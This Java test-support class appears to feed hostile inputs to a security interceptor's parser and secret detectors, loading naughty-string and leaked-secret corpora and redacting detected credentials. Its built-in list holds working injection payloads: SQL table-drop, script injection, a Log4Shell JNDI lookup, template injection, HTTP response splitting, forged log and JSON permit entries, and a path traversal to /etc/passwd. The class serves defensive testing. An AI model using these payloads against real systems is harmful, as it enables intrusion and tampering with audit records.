package dev.interceptor.server.secrecy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.interceptor.core.policy.Detection;
import dev.interceptor.server.guard.Detectors;
import dev.interceptor.server.guard.Finding;
import dev.interceptor.server.guard.Redaction;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.EnumSet;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;

/// Texts that others collected to break what reads them, and texts with credentials.
final class HostileTexts {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final Detectors DETECTORS = Detectors.standard();

  /// Of our own, for where the collections are missing.
  private static final List<String> OWN =
      List.of(
          "",
          "\u0000",
          "a\r\nHTTP/1.1 200 OK\r\n\r\n",
          "a\n2026-01-01T00:00:00Z INFO permit",
          "\u001b[31mred\u001b[0m\u0007\b\u007f\u0085\u009b1m",
          "\u202egnp.exe \u2066x\u2069 \u200b\u200d\ufeff",
          "\u2028\u2029\u00a0\u3000\u00ad\u180e",
          "\ue000\uffff\udbff\udfff",
          "'; DROP TABLE audit_log; --",
          "\\\"}],\"outcome\":\"permit\"",
          "<script>alert(1)</script>",
          "${jndi:ldap://x.example/a} {{7*7}} %s%n",
          "../../../../etc/passwd\u0000.png");

  private HostileTexts() {}

  private static Optional<Path> vectors(String file) {
    Path path = Path.of(System.getProperty("vectors", "../../shared/vectors"), file);
    if (Files.isReadable(path)) {
      return Optional.of(path);
    }
    System.out.println("not tried, as it is not here: " + path);
    return Optional.empty();
  }

  /// The big list of naughty strings, if it is here, and ours.
  static List<String> naughty() throws IOException {
    List<String> all = new ArrayList<>(OWN);
    Optional<Path> list = vectors("json/blns.json");
    if (list.isPresent()) {
      JSON.readTree(list.get().toFile()).forEach(text -> all.add(text.textValue()));
    }
    return all;
  }

  /// What the corpora call a secret, if they are here: a text with a secret in it.
  static List<String> withSecrets() throws IOException {
    List<String> all = new ArrayList<>();
    for (String file :
        List.of("secrets/gitleaks_cases.jsonl", "secrets/detect_secrets_cases.jsonl")) {
      Optional<Path> list = vectors(file);
      if (list.isPresent()) {
        for (String line : Files.readAllLines(list.get())) {
          JsonNode row = JSON.readTree(line);
          if (row.path("label").asText().equals("positive")) {
            all.add(text(row));
          }
        }
      }
    }
    return all;
  }

  private static String text(JsonNode row) {
    return row.has("text")
        ? row.path("text").asText()
        : new String(
            Base64.getDecoder().decode(row.path("text_b64").asText()), StandardCharsets.UTF_8);
  }

  /// The text without what the detectors take for a credential.
  static String cleaned(String text) {
    return Redaction.redacted(text, DETECTORS.find(text, EnumSet.of(Detection.SECRETS)));
  }

  /// The parts of a text that the detectors take for a credential.
  static Stream<String> recognised(String text) {
    List<Finding> findings = DETECTORS.find(text, EnumSet.of(Detection.SECRETS));
    return findings.stream().map(finding -> text.substring(finding.start(), finding.end()));
  }
}
